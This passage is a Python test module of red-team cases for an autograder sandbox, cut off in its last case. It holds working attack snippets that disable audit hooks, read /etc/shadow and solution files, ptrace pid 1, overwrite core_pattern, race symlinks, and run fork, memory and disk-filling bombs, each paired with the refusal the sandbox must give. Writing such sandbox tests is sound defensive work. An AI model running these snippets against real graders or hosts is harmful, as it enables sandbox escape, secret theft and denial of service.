"""The red team's submissions: each one attacks the grader and says what it found.

A case is a submission (a template filled per run, see :data:`FIELDS`) and the exact outcome the
grader must give it: the score, which tests pass, the student-facing problem or messages, and
what the attack itself reports. An attack reports by raising ``RuntimeError("REDTEAM<<json>>")``
at load time (the problem line of the feedback carries it) or by printing the same frame (the
feedback's "Your code printed" block carries it). Anything an attack could write outside the
sandbox is named after the run's marker, so the tests can look for it on the machine afterwards.

Most attacks first switch the child's audit hook off (``_unhook``): the hook is advice, and
the point is to show that the operating system alone keeps them in.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from string import Template
from typing import Callable

#: Template fields every case may use; the harness fills them for each run.
FIELDS = ("marker", "port", "abstract", "unixpath", "host_ip", "checkout", "suite", "suite_copy", "reference",
          "reference_copy", "notebook", "originals", "results", "submitted", "home", "world", "forbidden")

from unprivileged import UNPRIVILEGED_UID  # noqa: E402  (the ordinary account the unprivileged run grades as)
CONSTRUCT_ONLY = frozenset({"test_new_small_6d", "test_new_large_4d", "test_random_new_games"})
ALL_TESTS = frozenset({
    "test_new_small_6d", "test_new_large_4d", "test_dig_ongoing", "test_dig_defeat", "test_render",
    "test_integration_4d", "test_integration_6d", "test_integration_5d", "test_edges", "test_redig_and_after_the_end",
    "test_victory", "test_random_new_games", "test_random_games"})
NO_DIG = CONSTRUCT_ONLY | {"test_render"}
HYPERMINES_TESTS = 13
FRAME = re.compile(r"REDTEAM<<(.*?)>>", re.S)

# The attack's toolbox, put before every attack. Only modules the hypermines rule allows are
# imported by statement; the rest come through importlib, which the import rule does not see.
PRELUDE = r'''
import os as _os, sys as _sys
_json = _sys.modules['json']
_imp = getattr(_sys.modules['importlib'], 'import_module')
_errno = _imp('errno')


def _unhook():
    """Switch the child's audit hook and import guard off (found through the stack)."""
    frame = _sys._getframe(0)
    while frame is not None:
        owner = frame.f_locals.get('self')
        if owner is not None and hasattr(owner, 'runner_guard'):
            owner.runner_guard.active = False
            return owner
        frame = frame.f_back
    raise LookupError('no guard on the stack')


def _err(error):
    code = getattr(error, 'errno', None)
    return type(error).__name__ + (':' + _errno.errorcode.get(code, str(code)) if code else '')


def _try(function, *args):
    try:
        value = function(*args)
    except BaseException as error:
        return _err(error)
    return 'ok' if value is None else value


def _read(path):
    with open(path, 'rb') as handle:
        return 'READ %d bytes' % len(handle.read())


def _write(path, data=b'redteam'):
    with open(path, 'wb') as handle:
        handle.write(data)


def _frame(outcome):
    return 'REDTEAM<<' + _json.dumps(outcome, sort_keys=True) + '>>'


def _report(outcome):
    raise RuntimeError(_frame(outcome))


def _print(outcome):
    print(_frame(outcome))
'''

Expect = dict | Callable[[object, str], None] | None


@dataclass(frozen=True)
class Case:
    """One hostile submission and the exact outcome it must get."""

    name: str
    attack: str | bytes                   #: the attack (a template), appended to PRELUDE
    base: str = "none"                    #: "none", "reference" (the honest solution first), "raw", "reference-only"
    suffix: str = ".py"
    file_name: str = "lab"
    passes: frozenset[str] = frozenset()  #: exactly the tests that pass
    problem: str | None = None            #: the problem must match this regex (fullmatch); None: no problem
    messages: tuple[str, ...] = ()        #: substrings every failed test's output must hold
    outcome: Expect = None                #: the attack's report: a dict per mode, one dict, or a check
    outcome_in: str = "problem"           #: "problem", "stdout", or "report" (the check gets the GradeReport)
    #: "submission"; made by the harness: "link-file", "link-folder", "fifo", "notebook-source" (the
    #: source notebook handed in as it is), "reference-source" (the step's reference as the file)
    kind: str = "submission"
    note: str = ""
    status: str = "graded"                #: "graded", or "not submitted" (then ``problem`` matches the reason)

    def text(self, values: dict[str, str], reference: str) -> bytes:
        if isinstance(self.attack, bytes):
            return self.attack
        if self.base == "reference-only":
            return reference.encode("utf-8")
        filled = Template(self.attack).substitute(values)
        if self.base == "raw":
            return filled.encode("utf-8")
        prelude = Template(PRELUDE).substitute(values)
        head = reference + "\n" if self.base == "reference" else ""
        return (head + prelude + "\n" + filled).encode("utf-8")

    def expected_outcome(self, mode: str):
        if isinstance(self.outcome, dict) and set(self.outcome) == {"root", "user"}:
            return self.outcome[mode]
        return self.outcome


def reported(text: str) -> object:
    """The attack's own report inside a problem or stdout text (the first frame)."""
    found = FRAME.search(text or "")
    if not found:
        raise AssertionError(f"no REDTEAM report in: {text[:3000]!r}")
    return json.loads(found.group(1))


def loaded_problem(kind: str = "RuntimeError") -> str:
    """The problem of a submission that raised at load time (the report comes with it)."""
    return rf"the submission could not be loaded: {kind}: .*"


ENOENT = "FileNotFoundError:ENOENT"


def _all(value: str):
    def check(outcome, mode):
        bad = {k: v for k, v in outcome.items() if v != value}
        assert not bad, f"expected every entry to be {value}, these differ: {bad}"
    return check


# ---------------------------------------------------------------------------------------- secrets
SECRET_PATHS = r'''
_secrets = {
    'suite': '$suite', 'suite_copy': '$suite_copy', 'reference': '$reference',
    'reference_copy': '$reference_copy', 'notebook': '$notebook', 'originals': '$originals',
    'git_config': '$checkout/.git/config', 'git_head': '$checkout/.git/HEAD',
    'grader_key': '$results/.grader-key', 'honest_results': '$results/students/02-honest/results.json',
    'honest_source': '$submitted/02-honest/lab.py', 'shadow': '/etc/shadow',
    'root_history': '/root/.bash_history', 'home': '$home/.profile',
}


def _steal_and_score(results):
    """Read every secret; any reference or notebook found is run, which would score full marks."""
    for key, path in _secrets.items():
        results[key] = _try(_read, path)
        if results[key].startswith('READ') and key in ('reference', 'reference_copy', 'notebook'):
            exec(open(path).read(), globals())
    return results
'''

SECRETS_CASES = [
    Case("hook_off_by_gc_reads_solutions", SECRET_PATHS + r'''
_gc = _imp('gc')
_guards = [o for o in _gc.get_objects() if type(o).__name__ == 'Guard']
for _g in _guards:
    _g.active = False
_found = {'guards': len(_guards), 'hook_off': _try(_os.kill, _os.getpid(), 0)}
_report(_steal_and_score(_found))
''', problem=loaded_problem(), outcome={**{k: ENOENT for k in (
        "suite", "suite_copy", "reference", "reference_copy", "notebook", "originals", "git_config", "git_head",
        "grader_key", "honest_results", "honest_source", "shadow", "root_history", "home")}, "guards": 1,
        "hook_off": "ok"}),
    Case("hook_off_by_stack_lists_folders", r'''
_unhook()
_report({'hook_off': _try(_os.kill, _os.getpid(), 0),
         'checkout': _try(_os.listdir, '$checkout'),
         'suites': _try(_os.listdir, '$suite'.rsplit('/', 1)[0]),
         'world': _try(_os.listdir, '$world'),
         'notebooks': _try(_os.listdir, '$checkout/notebooks'),
         'results': _try(_os.listdir, '$results'),
         'submitted': _try(_os.listdir, '$submitted')})
''', problem=loaded_problem(), outcome=lambda found, mode: _checkout_listing(found)),
    Case("realpath_replaced_then_writes", r'''
_os.path.realpath = lambda path, *a, **k: '/tmp/harmless'
_targets = ['$checkout/$marker-a', '$checkout/autograder/$marker-a', '$results/$marker-a',
            '$results/02-honest/$marker-a', '$suite'.rsplit('/', 1)[0] + '/$marker-a', '/root/$marker-a',
            '$home/$marker-a', '$world/$marker-a', '/var/tmp/$marker-a', '/etc/$marker-a']
for _t in _targets:
    _try(_write, _t)
_report({'runtime_write': _try(_write, '/sandbox/runtime/$marker-a'),
         'hook_refuses_no_more': _try(_os.kill, _os.getpid(), 0) != 'ok'})
''', problem=loaded_problem(), outcome={"runtime_write": "OSError:EROFS", "hook_refuses_no_more": True},
         note="the hook still refuses signals (only realpath was replaced): the writes reach the kernel"),
    Case("guard_code_patched_reads_git", r'''
_gc = _imp('gc')
_cls = next(type(o) for o in _gc.get_objects() if type(o).__name__ == 'Guard')
_cls.audit.__code__ = (lambda self, event, args: None).__code__
_report({'hook_off': _try(_os.kill, _os.getpid(), 0),
         'git_config': _try(_read, '$checkout/.git/config'),
         'git_index': _try(_read, '$checkout/.git/index'),
         'notebook': _try(_read, '$notebook'),
         'git_listing': _try(_os.listdir, '$checkout/.git')})
''', problem=loaded_problem(), outcome={"hook_off": "ok", "git_config": ENOENT, "git_index": ENOENT,
                                         "notebook": ENOENT, "git_listing": ENOENT}),
    Case("search_every_visible_file_for_solutions", r'''
_unhook()
_wanted = {'hypermines.py', 'test_hypermines.py', '04-nd-dig.ipynb', 'test_integration1.json',
           '.grader-key', 'grader.json', '.report.json'}
_found = []
for _root, _dirs, _files in _os.walk('/'):
    if _root in ('/proc', '/dev', '/usr/lib', '/usr/lib64', '/usr/lib32'):
        _dirs[:] = []
        continue
    _found += [_root + '/' + f for f in _files if f in _wanted]
_report({'found': sorted(_found)})
''', problem=loaded_problem(), outcome={"found": []}),
]


def _checkout_listing(found: dict) -> None:
    """Only the Python installation's folder may show inside the checkout's path (an empty
    mount point for a virtual environment kept there); nothing else of the checkout."""
    import sys
    from pathlib import Path

    checkout = Path(__file__).resolve().parents[2]
    venv = Path(sys.prefix).resolve()
    expected_checkout = [venv.relative_to(checkout).parts[0]] if checkout in venv.parents else ENOENT
    assert found == {"hook_off": "ok", "checkout": expected_checkout, "suites": ENOENT, "world": ENOENT,
                     "notebooks": ENOENT, "results": ENOENT, "submitted": ENOENT}, found


SECRETS_CASES += [
    Case("proc_shows_no_grader", r'''
_unhook()
_seen = {}
for _pid in _os.listdir('/proc'):
    if _pid.isdigit():
        _seen[_pid] = _try(lambda: open('/proc/%s/cmdline' % _pid, 'rb').read().split(b'\0')[0].decode())
_report({'processes': sorted(_seen.values()), 'me': str(_os.getpid()), 'parent': _os.getppid()})
''', problem=loaded_problem(), outcome=lambda found, mode: _only_the_sandbox(found)),
    Case("environment_and_identity", r'''
_unhook()
_report({'environ': sorted(_os.environ), 'host_paths_in_values': sorted(
             k for k, v in _os.environ.items() if any(p in v for p in ('$checkout', '$results', '$home', '/root'))),
         'uid': _os.getuid(), 'gid': _os.getgid(), 'groups': _os.getgroups(), 'hostname': _os.uname().nodename,
         'cwd': _os.getcwd()})
''', problem=loaded_problem(), outcome=lambda found, mode: _identity(found, mode)),
    Case("pid1_ptrace_and_proc_files", r'''
_unhook()
_ctypes = _imp('ctypes')
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long


def _traced(result):
    return 'ok' if result >= 0 else _errno.errorcode[_ctypes.get_errno()]


def _ptrace_pid1():
    if _libc.ptrace(16, 1, 0, 0) != 0:  # PTRACE_ATTACH
        return _errno.errorcode[_ctypes.get_errno()]
    _libc.ptrace(17, 1, 0, 0)
    return 'attached'


def _kind(fd):
    mode = _os.fstat(fd).st_mode
    return 'fifo' if _imp('stat').S_ISFIFO(mode) else 'file' if _imp('stat').S_ISREG(mode) else oct(mode)


def _reopened(number):
    fd = _os.open('/proc/self/fd/%d' % number, _os.O_RDWR)
    try:
        return _kind(fd)
    finally:
        _os.close(fd)


_local = (_ctypes.c_char * 8)()
_iov = (_ctypes.c_void_p * 2)(_ctypes.cast(_local, _ctypes.c_void_p), 8)
_report({'pid1_status': _try(lambda: open('/proc/1/status').read()[:40]),
         'pid1_listing': _try(lambda: sorted(_os.listdir('/proc/1'))),
         'pid1_environ': _try(_read, '/proc/1/environ'),
         'pid1_mem': _try(lambda: open('/proc/1/mem', 'r+b').close()),
         'pid1_fd': _try(lambda: _os.listdir('/proc/1/fd')),
         'write_over_pid1': _try(_write, '/proc/1/planted-$marker'),
         'ptrace_pid1': _ptrace_pid1(),
         'ptrace_traceme': _traced(_libc.ptrace(0, 0, 0, 0)),
         'process_vm_readv_pid1': _traced(_libc.process_vm_readv(1, _iov, 1, _iov, 1, 0)),
         'pidfd_getfd': _traced(_libc.syscall({'x86_64': 438, 'aarch64': 438}[_os.uname().machine],
                                             _libc.syscall(434, 1, 0), 0, 0)),
         'output_kinds': [_kind(1), _kind(2)],
         'reopened_output': [_try(_reopened, 1), _try(_reopened, 2)],
         'sysrq': _try(_write, '/proc/sysrq-trigger', b'h'),
         'core_pattern': _try(_write, '/proc/sys/kernel/core_pattern', b'|/tmp/x'),
         'kcore': _try(_read, '/proc/kcore'),
         'kmsg': _try(_read, '/dev/kmsg')})
''', problem=loaded_problem(), outcome=lambda found, mode: _pid1(found, mode)),
    Case("grader_objects_through_subclasses", r'''
_unhook()
_gc = _imp('gc')
_names = {'Sandbox', 'GradeReport', '_GradingPlugin', 'TestOutcome', 'Mismatch', 'Assignment', 'Submission',
          'Limits', 'Handle', 'Guard'}


def _walk(cls, seen):
    for sub in type.__subclasses__(cls):
        if sub not in seen:
            seen.add(sub)
            _walk(sub, seen)
    return seen


_classes = _walk(object, set())
_files, _frame_now = [], _sys._getframe(0)
while _frame_now is not None:
    _files.append(_frame_now.f_code.co_filename)
    _frame_now = _frame_now.f_back
_report({'grader_classes': sorted({c.__name__ for c in _classes if c.__name__ in _names}),
         'grader_modules': sorted(m for m in _sys.modules
                                  if m.split('.')[0] in ('autograder', 'pytest', '_pytest', 'minesweeper_kit', 'numpy')),
         'frames_above_the_runner': sorted(set(_files))})
''', problem=loaded_problem(), outcome={
        # The child's own runner (its Guard) is the only one of these names it holds.
        "grader_classes": ["Guard"], "grader_modules": [],
        "frames_above_the_runner": ["/sandbox/runtime/child.py", "/sandbox/work/lab.py"]}),
    Case("network_from_the_sandbox", r'''
_unhook()
_socket = _imp('socket')


def _connect(family, address):
    s = _socket.socket(family, _socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(address)
    finally:
        s.close()


def _udp():
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    try:
        s.sendto(b'$marker', ('127.0.0.1', $port))
    finally:
        s.close()


_report({'tcp_loopback': _try(_connect, _socket.AF_INET, ('127.0.0.1', $port)),
         'tcp_v6': _try(_connect, _socket.AF_INET6, ('::1', $port)),
         'tcp_host_address': _try(_connect, _socket.AF_INET, ('$host_ip', $port)),
         'abstract_unix': _try(_connect, _socket.AF_UNIX, '\0$abstract'),
         'unix_path': _try(_connect, _socket.AF_UNIX, '$unixpath'),
         'udp_loopback': _try(_udp),
         'raw_socket': _try(lambda: _socket.socket(_socket.AF_INET, _socket.SOCK_RAW, 1).close()),
         'interfaces': sorted(name for _, name in _socket.if_nameindex())})
''', problem=loaded_problem(), outcome={
        "tcp_loopback": "ConnectionRefusedError:ECONNREFUSED", "tcp_v6": "ConnectionRefusedError:ECONNREFUSED",
        "tcp_host_address": "OSError:ENETUNREACH", "abstract_unix": "ConnectionRefusedError:ECONNREFUSED",
        "unix_path": ENOENT, "udp_loopback": "ok", "raw_socket": "PermissionError:EPERM", "interfaces": ["lo"]},
         note="the UDP datagram goes to the sandbox's own loopback: the host's listener must not see it"),
]


def _pid1(found: dict, mode: str) -> None:
    """bubblewrap's init (pid 1 of the sandbox) is out of sight in both modes (an empty, read-only
    folder covers ``/proc/1``), and nothing can be traced or read across processes: ``ptrace``,
    ``process_vm_readv`` and ``pidfd_getfd`` are refused by the seccomp filter. Grading as an
    ordinary user, init runs as the child's own uid, so only these keep the child from it."""
    refused = {k: v for k, v in found.items() if k in ("sysrq", "core_pattern", "kcore", "kmsg")}
    assert all(v != "ok" and not v.startswith("READ") for v in refused.values()), found
    assert found["pid1_listing"] == [], found
    assert {k: found[k] for k in ("pid1_status", "pid1_environ", "pid1_mem", "pid1_fd")} == dict.fromkeys(
        ("pid1_status", "pid1_environ", "pid1_mem", "pid1_fd"), ENOENT), found
    assert found["write_over_pid1"] == "OSError:EROFS", found
    # stdout and stderr are pipes the grader drains, not files of the grader's: reopened through
    # /proc/self/fd they are the same pipes (or refused, as root, where the pipe is another uid's)
    assert found["output_kinds"] == ["fifo", "fifo"], found
    assert found["reopened_output"] in (["fifo", "fifo"], ["PermissionError:EACCES"] * 2), found
    assert {k: found[k] for k in ("ptrace_pid1", "ptrace_traceme", "process_vm_readv_pid1", "pidfd_getfd")} == {
        "ptrace_pid1": "EPERM", "ptrace_traceme": "EPERM", "process_vm_readv_pid1": "EPERM", "pidfd_getfd": "EPERM"
    }, found


def _only_the_sandbox(found: dict) -> None:
    import sys

    # pid 1, bubblewrap's init, is listed but covered: its cmdline cannot be read
    assert found["processes"] == sorted([ENOENT, sys.executable]), found
    assert found["parent"] == 1 and found["me"] == "2", found


def _identity(found: dict, mode: str) -> None:
    from minesweeper_kit.sandbox.isolation import UID_BASE, UID_SLOTS

    # MINESWEEPER_SANDBOX_TAG is there only when the test run sets it for the grader (see parent.py)
    assert [v for v in found["environ"] if v != "MINESWEEPER_SANDBOX_TAG"] == [
        "HOME", "LANG", "MKL_NUM_THREADS", "OMP_NUM_THREADS", "OPENBLAS_NUM_THREADS",
        "PATH", "PWD", "PYTHONHASHSEED", "PYTHONIOENCODING", "TMPDIR"], found
    assert found["host_paths_in_values"] == [] and found["hostname"] == "sandbox", found
    assert found["cwd"] == "/sandbox/work" and found["groups"] == [], found
    if mode == "root":
        assert UID_BASE <= found["uid"] < UID_BASE + UID_SLOTS and found["gid"] == found["uid"], found
    else:  # the documented gap of a user namespace: the grader's own uid, mapped
        assert found["uid"] == found["gid"] == UNPRIVILEGED_UID, found


# ---------------------------------------------------------------------------- links and races
LINK_CASES = [
    Case("symlink_flipped_by_a_thread", r'''
_threading, _time = _imp('threading'), _imp('time')
_os.makedirs('/tmp/race', exist_ok=True)
_write('/tmp/race/harmless', b'nothing to see')
_targets = ['$suite', '$reference', '$checkout/$marker-race', '$results/$marker-race', '$notebook']
_stop = []


def _flip():
    n = 0
    while not _stop:
        target = _targets[n % len(_targets)] if n % 2 else '/tmp/race/harmless'
        try:
            _os.symlink(target, '/tmp/race/new')
            _os.replace('/tmp/race/new', '/tmp/race/link')
        except OSError:
            pass
        n += 1


_thread = _threading.Thread(target=_flip, daemon=True)
_thread.start()
_secrets = _tries = 0
_end = _time.process_time() + 1.0
while _time.process_time() < _end:
    _tries += 1
    try:
        with open('/tmp/race/link', 'rb') as handle:
            data = handle.read()
        if b'def test_' in data or b'class HyperMinesGame' in data or b'BEGIN SOLUTION' in data:
            _secrets += 1
    except OSError:
        pass
    try:
        with open('/tmp/race/link', 'wb') as handle:
            handle.write(b'$marker')
    except OSError:
        pass
_stop.append(1)
_thread.join()
_report({'secrets_read': _secrets, 'raced': _tries > 50})
''', problem=loaded_problem(), outcome={"secrets_read": 0, "raced": True},
         note="the audit hook stays on: its path check is what the old race beat"),
    Case("symlinks_left_for_the_grader", r'''
_unhook()
_names = ['results.json', 'feedback.txt', 'grader.json', '.report.json', '.grader-key', 'stdout', 'stderr',
          'grader-log.txt', 'setup.cfg', 'conftest.py']
_targets = ['$checkout/$marker-link', '/root/$marker-link', '$results/$marker-link', '/etc/$marker-link',
            '$home/$marker-link']
_made = 0
for _folder in ('/sandbox/work', '/tmp'):
    for _i, _name in enumerate(_names):
        _os.symlink(_targets[_i % len(_targets)], _folder + '/' + _name)
        _made += 1
    _os.symlink('/', _folder + '/root-link')
    _made += 1
_print({'links': _made})
''', outcome={"links": 22}, outcome_in="stdout", messages=("your code does not define HyperMinesGame",)),
    Case("poison_the_shared_runtime", r'''
_unhook()
_mounts = [line.split() for line in open('/proc/self/mountinfo')]
_host = [m[3] for m in _mounts if m[4] == '/sandbox/runtime']
_found = {}
for _name in ('child.py', 'protocol.py', 'policy.py'):
    _path = '/sandbox/runtime/' + _name
    _found[_name] = [_try(_write, _path, b'# $marker'), _try(_os.chmod, _path, 0o777), _try(_os.unlink, _path),
                     _try(_os.rename, _path, _path + '.x'), _try(_os.utime, _path, (0, 0))]
_found['new_file'] = _try(_write, '/sandbox/runtime/$marker-runtime')
_found['host_folder'] = _try(_os.listdir, _host[0]) if _host else 'not mounted'
_report(_found)
''', problem=loaded_problem(), outcome={**{name: ["OSError:EROFS"] * 5 for name in ("child.py", "protocol.py", "policy.py")},
                                         "new_file": "OSError:EROFS", "host_folder": ENOENT}),
]

# ---------------------------------------------------------------------------- other students
CROSS = r'''
_unhook()
_socket, _time, _ctypes = _imp('socket'), _imp('time'), _imp('ctypes')
_libc = _ctypes.CDLL(None, use_errno=True)
_started = _time.time()
_SYSV_KEY = int('$marker'[-6:], 16)


def _busy(seconds, step):
    end = _time.process_time() + seconds
    while _time.process_time() < end and _time.time() - _started < 8:
        step()
'''

CROSS_CASES = [
    Case("00-listener", CROSS + r'''
_servers = []
for _family, _address in ((_socket.AF_UNIX, '\0$marker-cross'), (_socket.AF_UNIX, '/tmp/$marker-cross.sock'),
                          (_socket.AF_INET, ('127.0.0.1', $port))):
    _server = _socket.socket(_family, _socket.SOCK_STREAM)
    _server.bind(_address)
    _server.listen(8)
    _server.setblocking(False)
    _servers.append(_server)
_write('/tmp/$marker-cross.txt')
_sysv_made = _libc.shmget(_SYSV_KEY, 4096, 0o1666) >= 0
_accepted = [0]


def _accept():
    for server in _servers:
        try:
            server.accept()
            _accepted[0] += 1
        except OSError:
            pass


_busy(1.0, _accept)
_report({'accepted': _accepted[0], 'sysv_made': _sysv_made, 'window': [_started, _time.time()]})
''', problem=loaded_problem(), outcome=lambda found, mode: _no_contact(found, "accepted")),
    Case("01-prober", CROSS + r'''
_errors, _connected, _seen = set(), [0], set()


def _probe():
    for family, address in ((_socket.AF_UNIX, '\0$marker-cross'), (_socket.AF_UNIX, '\0$abstract'),
                            (_socket.AF_UNIX, '/tmp/$marker-cross.sock'), (_socket.AF_UNIX, '$unixpath'),
                            (_socket.AF_INET, ('127.0.0.1', $port))):
        s = _socket.socket(family, _socket.SOCK_STREAM)
        s.settimeout(0.2)
        try:
            s.connect(address)
            _connected[0] += 1
        except OSError as error:
            _errors.add(_err(error))
        finally:
            s.close()
    if _libc.shmget(_SYSV_KEY, 0, 0) >= 0:
        _connected[0] += 1
    else:
        _errors.add('shmget:' + _errno.errorcode[_ctypes.get_errno()])
    for folder in ('/tmp', '/dev/shm', '/sandbox'):
        listing = _try(_os.listdir, folder)
        _seen.update(folder + '/' + name for name in (listing if isinstance(listing, list) else [listing]))


_busy(1.0, _probe)
_report({'connected': _connected[0], 'errors': sorted(_errors), 'seen': sorted(_seen),
         'window': [_started, _time.time()]})
''', problem=loaded_problem(), outcome=lambda found, mode: _no_contact(found, "connected")),
]


def _no_contact(found: dict, key: str) -> None:
    assert found[key] == 0, found
    if key == "accepted":
        assert found["sysv_made"] is True, found
    else:
        assert found["errors"] == ["ConnectionRefusedError:ECONNREFUSED", ENOENT, "shmget:ENOENT"], found
        assert found["seen"] == ["/sandbox/runtime", "/sandbox/work", *_python_under_tmp()], found


def _python_under_tmp() -> list[str]:
    """What a sandbox's own ``/tmp`` shows besides nothing: the top folder of each part of the
    Python installation that lives under ``/tmp`` (shown read-only at its own path, so that Python
    runs there), as when the checkout and its venv are a clone in the temp folder."""
    import os
    import sys

    from minesweeper_kit.sandbox.isolation import site_paths

    tops = set()
    for path in (sys.prefix, sys.base_prefix, sys.executable, *site_paths()):
        parts = os.path.realpath(path).split("/")
        if len(parts) > 3 and parts[1] == "tmp":
            tops.add("/tmp/" + parts[2])
    return sorted(tops)


HONEST_CASES = [
    Case("02-honest", "", base="reference-only", passes=frozenset({"*"})),
    Case("zz-honest", "", base="reference-only", passes=frozenset({"*"})),
    # graded honestly here; the results tests then replace its signed record with 02-honest's
    Case("forger-replay", "x = 1\n", base="raw", messages=("your code does not define HyperMinesGame",)),
]


def _notebook(cells: object = None, **top: object) -> bytes:
    document = {"cells": [] if cells is None else cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    document.update(top)
    return json.dumps(document).encode("utf-8")


def _code_cell(source: str, **extra: object) -> dict:
    return {"cell_type": "code", "source": source, "metadata": {}, "outputs": [], "execution_count": None, **extra}


NOTEBOOK = r"the notebook could not be read \(corrupt \.ipynb\?\): "
NOTEBOOK_CASES = [
    Case("nb_deeply_nested_json", b'{"nbformat": 4, "cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}",
         suffix=".ipynb", problem=NOTEBOOK + r"its JSON is nested too deeply"),
    Case("nb_deeply_nested_cell", _notebook([_code_cell("x = " + "(" * 100_000 + ")" * 100_000)]),
         suffix=".ipynb", problem=r"(SyntaxError in the cell starting .*|cell 1 .*|the notebook has too much code .*)"),
    Case("nb_version_is_a_string", _notebook([_code_cell("x = 1")], nbformat="4"), suffix=".ipynb",
         problem=NOTEBOOK + r"its 'nbformat' is a string, not a whole number"),
    Case("nb_metadata_is_a_list", _notebook([_code_cell("x = 1")], metadata=[]), suffix=".ipynb",
         problem=NOTEBOOK + r"its 'metadata' is a list, not an object"),
    Case("nb_cell_metadata_is_a_list", _notebook([_code_cell("x = 1", metadata=[])]), suffix=".ipynb",
         problem=NOTEBOOK + r"cell 1's metadata is a list, not an object"),
    Case("nb_number_too_long", b'{"nbformat": ' + b"9" * 6000 + b', "cells": []}', suffix=".ipynb",
         problem=NOTEBOOK + r".*(digit|integer).*"),
    Case("nb_cells_not_a_list", _notebook({"0": _code_cell("x = 1")}), suffix=".ipynb",
         problem=NOTEBOOK + r"it has no list of cells \('cells' is an object\)"),
    Case("nb_magic_flood", _notebook([_code_cell("%time x = 1\n" * 30_000)]), suffix=".ipynb",
         problem=r"the notebook has too much code for the grader to read: .*"),
]

# ---------------------------------------------------------------------------- resources
MIB = 1024 * 1024
CHILD_DIED = "the submission could not be loaded: Error: the process running the submission "
MEMORY_KILL = (CHILD_DIED + r"was killed: it used more than the sandbox's memory limit of 256 MB")

RESOURCE_CASES = [
    Case("fork_bomb", r'''
_unhook()
_time = _imp('time')
_children, _error = 0, 'none'
try:
    while True:
        if _os.fork() == 0:
            _time.sleep(120)
            _os._exit(0)
        _children += 1
except OSError as error:
    _error = _err(error)
_report({'error': _error, 'within_the_process_limit': _children <= 15})
''', problem=loaded_problem(), outcome={"error": "PermissionError:EPERM", "within_the_process_limit": True},
         note="no process at all: the seccomp filter refuses fork before the process-count limit is reached"),
    Case("thread_bomb", r'''
_threading = _imp('threading')
_event = _threading.Event()
_count, _error = 0, 'none'
try:
    for _ in range(10_000):
        _threading.Thread(target=_event.wait, daemon=True).start()
        _count += 1
except BaseException as error:
    _error = _err(error)
_event.set()
_report({'error': _error, 'within_the_process_limit': _count <= 15})
''', problem=loaded_problem(), outcome={"error": "RuntimeError", "within_the_process_limit": True}),
    Case("three_forks_of_200_mb", r'''
_unhook()
_time = _imp('time')
for _ in range(2):
    if _os.fork() == 0:
        _block = b'x' * (180 * 1024 * 1024)
        _time.sleep(120)
        _os._exit(0)
_block = b'x' * (210 * 1024 * 1024)
_time.sleep(2)
_report({'three_processes': 'alive'})
''', problem=loaded_problem("PermissionError"),
         note="600 MB in three processes, each under the 256 MB per-process limit: the first fork is refused"),
    Case("memfd_hoard", r'''
_unhook()
_block = b'm' * (15 * 1024 * 1024)
_held, _error = [], 'none'
try:
    for _ in range(60):
        _fd = _os.memfd_create('hoard')
        _os.write(_fd, _block)
        _held.append(_fd)
except OSError as error:
    _error = _err(error)
_report({'held_mb': 15 * len(_held), 'error': _error})
''', problem=MEMORY_KILL, note="900 MB of memory files held by one process of a 256 MB sandbox"),
    Case("unbounded_tmpfs_writes", r'''
_unhook()
_chunk = b'x' * (16 * 1024 * 1024 - 4096)
_written = {}
for _folder in ('/', '/dev', '/dev/shm', '/sandbox', '/usr', '/work', '/root', '/proc'):
    _mb, _error = 0, 'no error'
    for _i in range(5):
        try:
            _write('%s/$marker-fill-%d' % (_folder.rstrip('/'), _i), _chunk)
        except OSError as error:
            _error = _err(error)
            break
        _mb += 16
    _written[_folder] = [_mb, _error]
_report(_written)
''', problem=loaded_problem(), outcome=lambda found, mode: _nothing_written(found),
         note="folders outside the two size-limited tmpfs mounts must refuse writes"),
    Case("fill_the_disk", r'''
_unhook()
_chunk = b'x' * (4 * 1024 * 1024)
_found = {}
for _folder in ('/tmp', '/sandbox/work'):
    _error = 'no error'
    try:
        for _i in range(40):
            with open('%s/fill-%d' % (_folder, _i), 'wb') as handle:
                handle.write(_chunk)
    except OSError as error:
        _error = _err(error)
    _info = _os.statvfs(_folder)
    _found[_folder] = [_error, (_info.f_blocks - _info.f_bfree) * _info.f_frsize <= 64 * 1024 * 1024]
_fd = _os.open('/tmp/big', _os.O_WRONLY | _os.O_CREAT, 0o600)
_found['file_over_16_mb'] = _try(_os.ftruncate, _fd, 17 * 1024 * 1024)
_report(_found)
''', problem=loaded_problem(), outcome={"/tmp": ["OSError:ENOSPC", True], "/sandbox/work": ["OSError:ENOSPC", True],
                                         "file_over_16_mb": "OSError:EFBIG"}),
    Case("inode_flood", r'''
_unhook()
# First what the limits let a sandbox hold anyway: 150 MB of its address space, and 56 MB in each
# of its two private tmpfs (pages its memory cgroup counts). The empty files then have only the
# rest of the sandbox's memory: a cgroup that did not count them would let all 200,000 through.
# All of it at load, within the load's CPU limit: mknod makes a file in one system call.
_ballast = b'b' * (150 << 20)
for _folder in ('/tmp', '/sandbox/work'):
    for _i in range(56):
        _write('%s/ballast-%d' % (_folder, _i), b'd' * (1 << 20))
print('ballast: 150 MB of memory, 56 MB in each tmpfs', flush=True)
_os.makedirs('/tmp/inodes', exist_ok=True)
_file = _imp('stat').S_IFREG | 0o600
_created = 0
while _created < 200_000:
    _os.mknod('/tmp/inodes/%d' % _created, _file)
    _created += 1
    if _created % 10_000 == 0:
        print('files so far: %d' % _created, flush=True)
_report({'files': _created})
''', problem=MEMORY_KILL, outcome=lambda report, mode: _inodes_bounded(report), outcome_in="report",
         note="empty files cost kernel memory, not tmpfs blocks or address space: about 1 KB each"),
    Case("flood_stdout_and_stderr", r'''
_total, _errors = {1: 0, 2: 0}, {}
_block = b'y' * (1024 * 1024)
for _fd in (1, 2):
    try:
        for _ in range(40):
            _total[_fd] += _os.write(_fd, _block)
    except OSError as error:
        _errors[_fd] = _err(error)
_report({'stdout': [_total[1], _errors.get(1)], 'stderr': [_total[2], _errors.get(2)]})
''', problem=loaded_problem(), outcome={"stdout": [40 * MIB, None], "stderr": [40 * MIB, None]},
         note="stdout and stderr are pipes the grader drains: every write goes through, the grader keeps the "
              "first 64 KB of each (its memory is measured) and drops the rest"),
    Case("c_stack_overflow", r'''
_sys.setrecursionlimit(10 ** 8)


